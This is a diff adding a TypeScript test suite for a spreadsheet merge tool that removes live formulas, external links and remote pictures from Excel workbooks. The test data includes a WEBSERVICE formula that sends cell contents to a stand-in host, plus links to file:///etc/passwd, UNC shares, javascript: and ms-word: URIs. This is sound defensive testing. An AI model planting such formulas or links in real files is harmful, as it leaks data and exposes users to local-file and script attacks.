@@ -1,0 +1,98 @@
+import { merge } from './merge.js';
+import { ooxmlBreaches } from './ooxml-rules.js';
+import { OFFICE, oneSheet, PLAIN } from './packages.js';
+import { partText } from './part-text.js';
+import { buildPackage } from '../build-package.js';
+
+const good = oneSheet('Baik', '<row r="1"><c r="A1"><v>1</v></c></row>');
+const cell = (formula: string) =>
+  oneSheet(
+    'Hidup',
+    `<row r="1"><c r="A1"><f>${formula.replaceAll('&', '&amp;').replaceAll('<', '&lt;')}</f><v>7</v></c></row>`,
+  );
+const lossesOf = async (source: Uint8Array) => {
+  const { bytes, certificate } = await merge([good, source]);
+  expect(certificate.errors).toEqual([]);
+  expect(await ooxmlBreaches(bytes)).toEqual([]);
+  const losses = certificate.losses.map(({ kind, sheet, count }) => ({ kind, sheet, count }));
+  return { bytes, losses, sheet: (await partText(bytes, 'xl/worksheets/sheet2.xml'))! };
+};
+
+test.each([
+  ['_xlfn.WEBSERVICE("https://contoh.id/?"&A2)', 'live-formula'],
+  ['_xlfn.IMAGE("https://contoh.id/a.png")', 'live-formula'],
+  ['_xlfn._xlws.FILTERXML(A2,"//a")', 'live-formula'],
+  ['RTD("progid",,"a")', 'live-formula'],
+  [`INDIRECT("'Baik'!A1")`, 'live-formula'],
+  ['sum(indirect(B1))', 'live-formula'],
+  ['_xlfn.MAP(A2:A3,_xleta.WEBSERVICE)', 'live-formula'],
+  ['HYPERLINK("file:///etc/passwd","a")', 'live-link'],
+  ['HYPERLINK("\\\\server\\bagian","a")', 'live-link'],
+  ['HYPERLINK(" JavaScript:alert(1)","a")', 'live-link'],
+])('the formula %s becomes its value, and the certificate says so', async (formula, kind) => {
+  const { losses, sheet } = await lossesOf(cell(formula));
+  expect(losses).toEqual([{ kind, sheet: 'Hidup', count: 1 }]);
+  expect(sheet).not.toContain('<f>');
+  expect(sheet).toContain('<v>7</v>');
+});
+
+test.each([
+  'HYPERLINK("https://contoh.id","a")',
+  'HYPERLINK("#A1","a")',
+  'image+1',
+  'SUM(A2:A3)&"INDIRECT("',
+])('the formula %s stays', async (formula) => {
+  const { losses, sheet } = await lossesOf(cell(formula));
+  expect(losses).toEqual([]);
+  expect(sheet).toContain('<f>');
+});
+
+const linked = (type: string, target: string, tail: string) =>
+  buildPackage({
+    ...PLAIN,
+    sheets: [
+      {
+        name: 'Hidup',
+        xml: `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${OFFICE}"><sheetData><row r="1"><c r="A1"><v>7</v></c></row></sheetData>${tail}</worksheet>`,
+      },
+    ],
+    extra: {
+      'xl/worksheets/_rels/sheet1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="x1" Type="${OFFICE}/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
+    },
+  });
+const HYPERLINK = '<hyperlinks><hyperlink ref="A1" r:id="x1"/></hyperlinks>';
+
+test.each([
+  'file:///C:/rahasia.xlsx',
+  'javascript:alert(1)',
+  '\\\\server\\x',
+  'C:\\x.exe',
+  'ms-word:ofe|u|x',
+])('the link %s goes, and the certificate says so', async (target) => {
+  const { bytes, losses, sheet } = await lossesOf(linked('hyperlink', target, HYPERLINK));
+  expect(losses).toEqual([{ kind: 'live-link', sheet: 'Hidup', count: 1 }]);
+  expect(sheet).not.toContain('r:id');
+  expect(await partText(bytes, 'xl/worksheets/_rels/sheet2.xml.rels')).toBeNull();
+});
+
+test.each(['https://contoh.id/a', 'mailto:a@contoh.id', 'lampiran/buku.xlsx'])(
+  'the link %s stays',
+  async (target) => {
+    const { bytes, losses } = await lossesOf(linked('hyperlink', target, HYPERLINK));
+    expect(losses).toEqual([]);
+    expect(await partText(bytes, 'xl/worksheets/_rels/sheet2.xml.rels')).toContain(target);
+  },
+);
+
+test('a picture that is fetched when it is shown goes, and the certificate says so', async () => {
+  const source = linked('image', 'https://contoh.id/jejak.png', '<picture r:id="x1"/>');
+  const { losses, sheet } = await lossesOf(source);
+  expect(losses).toEqual([{ kind: 'live-picture', sheet: 'Hidup', count: 1 }]);
+  expect(sheet).not.toContain('<picture');
+});
+
+test('a text that the shared strings do not hold is damage, as it is to the reader', async () => {
+  const dangling = oneSheet('Rusak', '<row r="1"><c r="A1" t="s"><v>5</v></c></row>');
+  const { certificate } = await merge([good, dangling]);
+  expect(certificate.errors).toMatchObject([{ source: 1, code: 'WORKBOOK_DAMAGED' }]);
+});
